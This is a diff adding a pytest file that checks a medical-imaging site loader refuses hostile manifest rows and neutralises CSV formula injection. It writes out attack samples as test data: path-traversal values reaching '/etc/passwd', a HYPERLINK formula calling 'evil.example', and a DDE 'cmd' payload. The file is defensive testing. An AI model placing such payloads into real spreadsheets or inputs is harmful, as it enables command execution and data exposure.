@@ -1,0 +1,181 @@
+"""Hostile site input (issue 16, rows 12-14): bad manifest rows, implausible boxes, decompression bombs.
+
+Every test builds the attack itself and checks that the site refuses exactly the bad part,
+with a reason naming the file and row (never a patient id), and goes on with the rest.
+"""
+
+from __future__ import annotations
+
+import csv
+import logging
+from pathlib import Path
+
+import pytest
+
+from client.site_data import (
+    BOX_SIDE_MM,
+    MAX_FIELD_CHARS,
+    MAX_LINE_BYTES,
+    SiteData,
+    check_manifest,
+)
+from shared_models.preprocessing import PreprocessingSpec
+from shared_models.safe_csv import FORMULA_PREFIXES, neutralise, restore
+from sim.cli import main
+from sim.splits import write_splits
+from tests.test_site_data import BOX_L, BOX_R, PATIENTS, box_text, study_volume, write_dicom_study
+
+SPEC = PreprocessingSpec()
+HEADER = "patient_id,study,side,ficat_stage,box_lps_mm,scanner"
+A, B = PATIENTS[0], PATIENTS[1]
+GOOD_ROWS = [f"{A},p1,L,0,{box_text(BOX_L)},GE 3T", f"{A},p1,R,II,{box_text(BOX_R)},GE 3T"]
+HUGE = "-1e308 -1e308 -1e308 1e308 1e308 1e308"
+
+
+@pytest.fixture(scope="module")
+def study_root(tmp_path_factory) -> Path:
+    """One good DICOM study ``p1``, written once for the module."""
+    root = tmp_path_factory.mktemp("studies")
+    write_dicom_study(root / "p1", study_volume())
+    return root
+
+
+def _site(tmp_path: Path, study_root: Path, bad_row: bytes) -> Path:
+    """A site whose manifest has the two good rows of ``p1`` (lines 2, 3) and ``bad_row`` at line 4."""
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "p1").symlink_to(study_root / "p1")
+    text = "\n".join([HEADER, *GOOD_ROWS]).encode() + b"\n" + bad_row + b"\n"
+    (site / "manifest.csv").write_bytes(text)
+    return site
+
+
+BAD_ROWS = {
+    "parent path": (f"{B},../../etc,L,0,,GE".encode(), "study must be a path relative to the site root"),
+    "absolute path": (f"{B},/etc/passwd,L,0,,GE".encode(), "study must be a path relative to the site root"),
+    "windows drive": (f"{B},C:\\Windows,L,0,,GE".encode(), "study must be a path relative to the site root"),
+    "field over the cap": (f"{B},p2,L,0,,{'x' * (MAX_FIELD_CHARS + 1)}".encode(), f"field scanner longer than {MAX_FIELD_CHARS}"),
+    "line over 128 KiB": (f"{B},{'y' * (130 << 10)},L,0,,GE".encode(), f"line longer than {MAX_LINE_BYTES} bytes"),
+    "non-UTF-8 byte": (f"{B},p2,L,0,,GE".encode() + b"\xff\xfe", "not valid UTF-8"),
+    "NUL byte": (f"{B},p2,L,0,,G\x00E".encode(), "NUL character"),
+    "unterminated quote": (f'{B},"p2,L,0,,GE'.encode(), "malformed CSV"),
+    "more fields": (f"{B},p2,L,0,,GE,extra".encode(), "more fields than columns"),
+    "unknown side": (f"{B},p2,X,0,,GE".encode(), "side must be L or R"),
+    "empty patient": (b",p2,L,0,,GE", "patient_id is empty"),
+    "stage III": (f"{B},p2,L,III,,GE".encode(), "stage III is out of scope"),
+    "stage IV": (f"{B},p2,L,IV,,GE".encode(), "stage IV is out of scope"),
+    "unreadable stage": (f"{B},p2,L,IIb,,GE".encode(), "unreadable Ficat-Arlet stage"),
+    "bad box": (f"{B},p2,L,0,1 2 3,GE".encode(), "box_lps_mm must be 6 numbers"),
+    "box of 1e308 mm": (f"{B},p2,L,0,{HUGE},GE".encode(), "beyond +-2000 mm"),
+    "duplicate head": (f"{A},p1,L,0,,GE".encode(), "same patient and side already appear in row 2"),
+}
+
+
+@pytest.mark.parametrize("kind", list(BAD_ROWS))
+def test_a_bad_manifest_row_refuses_only_that_row(tmp_path, study_root, caplog, kind):
+    caplog.set_level(logging.DEBUG)
+    raw, reason = BAD_ROWS[kind]
+    site = _site(tmp_path, study_root, raw)
+    data = SiteData(site, "site-A", tmp_path / "cache", SPEC)
+    # The site goes on: both good heads of p1 load.
+    assert [(h.study, h.side) for h in data.heads] == [("p1", "L"), ("p1", "R")]
+    assert len(data.row_refusals) == 1
+    refusal = data.row_refusals[0]
+    assert (refusal.file, refusal.line) == ("manifest.csv", 4)
+    assert reason in refusal.reason
+    refused = [v for v in data.verdicts if v.status == "refused"]
+    assert len(refused) == 1 and str(refusal) == refused[0].reason and refused[0].reason.startswith("manifest.csv row 4: ")
+    # No patient id, and none of the row's values, in the reason, the verdict label or the logs.
+    texts = [refused[0].reason, refused[0].study] + [r.getMessage() for r in caplog.records]
+    for text in texts:
+        assert B not in text and "etc" not in text and "yyyy" not in text and "xxxx" not in text
+    assert any("manifest.csv row 4" in r.getMessage() for r in caplog.records)
+
+
+def test_every_bad_row_at_once_and_the_cli_summary(tmp_path, study_root, capsys):
+    """All kinds in one manifest: each refused with its own row number; `site check` lists them, no traceback."""
+    site = _site(tmp_path, study_root, b"\n".join(raw for raw, _ in BAD_ROWS.values()))
+    heads, refusals = check_manifest(site, "site-A")
+    assert [(h.study, h.side) for h in heads] == [("p1", "L"), ("p1", "R")]
+    assert [r.line for r in refusals] == list(range(4, 4 + len(BAD_ROWS)))
+    for refusal, (_, reason) in zip(refusals, BAD_ROWS.values()):
+        assert reason in refusal.reason
+    code = main(["site", "check", "--data", str(site), "--cache", str(tmp_path / "cache"), "--min-free-gb", "0"])
+    out = capsys.readouterr().out
+    assert code == 1  # the preflight reports the refusals (a site with refused rows is not all ok)
+    assert f"{len(BAD_ROWS)} row(s) skipped" in out and "Traceback" not in out
+    assert "manifest.csv" in out and "not valid UTF-8" in out and B not in out
+
+
+def test_a_formula_patient_id_is_neutralised_in_split_csv_and_read_back(tmp_path, study_root):
+    formula = '=HYPERLINK("http://evil.example/?x","open")'
+    site = tmp_path / "S"
+    site.mkdir()
+    (site / "p1").symlink_to(study_root / "p1")
+    (site / "manifest.csv").write_text(
+        "\n".join([HEADER, f'"{formula.replace(chr(34), chr(34) * 2)}",p1,L,0,{box_text(BOX_L)},GE']) + "\n"
+    )
+    write_splits(tmp_path, ["S"], [], seed=0)
+    with open(site / "split.csv", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)  # nothing a spreadsheet would run
+    assert "'" + formula in cells
+    data = SiteData(site, "S", tmp_path / "cache", SPEC)  # the site still finds the patient's split
+    assert [(h.patient_id, h.split) for h in data.heads] == [(formula, "test")]
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+2", "'=1+2"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # a leading quote is doubled, so reading back is exact
+        ("plain", "plain"),
+        ("", ""),
+        ("-1.5", "-1.5"),  # numbers are data, not formulas
+        ("-100 -24 -24.5 -60 24 2e1", "-100 -24 -24.5 -60 24 2e1"),
+        ("-1 =2", "'-1 =2"),
+    ],
+)
+def test_neutralise_is_safe_and_reversible(value, written):
+    assert neutralise(value) == written
+    assert restore(written) == value
+
+
+def test_conflicting_split_rows_refuse_that_patient_only(tmp_path, study_root):
+    site = _site(tmp_path, study_root, f"{B},p1b,L,0,,GE".encode())
+    (site / "split.csv").write_text(f"patient_id,split\n{A},train\n{B},train\n{B},test\n")
+    data = SiteData(site, "site-A", tmp_path / "cache", SPEC)
+    assert [(h.study, h.split) for h in data.heads] == [("p1", "train"), ("p1", "train")]
+    reasons = [str(r) for r in data.row_refusals]
+    assert reasons[0].startswith("split.csv row 4: patient already assigned to another split in row 3")
+    assert reasons[1] == "manifest.csv row 4: patient has conflicting rows in split.csv"
+
+
+# -- row 13: boxes ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "box",
+    [
+        HUGE,  # the attack: finite, ordered, and 2e308 mm wide
+        "0 0 0 1e300 1e300 1e300",
+        "60 -24 -24 64 -20 -20",  # 4 mm: a box in cm, or a lesion box, not a head
+        "0 0 0 100 48 48",  # 100 mm wide: the whole hip
+    ],
+)
+def test_an_implausible_box_refuses_that_head_at_site_check(tmp_path, study_root, box):
+    site = _site(tmp_path, study_root, f"{B},p2,L,0,{box},GE".encode())
+    heads, refusals = check_manifest(site, "site-A")
+    assert len(heads) == 2 and len(refusals) == 1
+    assert refusals[0].line == 4 and "box_lps_mm" in refusals[0].reason and "(the L head is refused)" in refusals[0].reason
+
+
+def test_box_bounds_hold_every_adult_femoral_head():
+    """The bounds are derived from adult femoral head diameters (~40-55 mm): each such box fits."""
+    lo, hi = BOX_SIDE_MM
+    assert lo <= 40.0 / 2 and 55.0 + 2 * 10 <= hi < 100.0
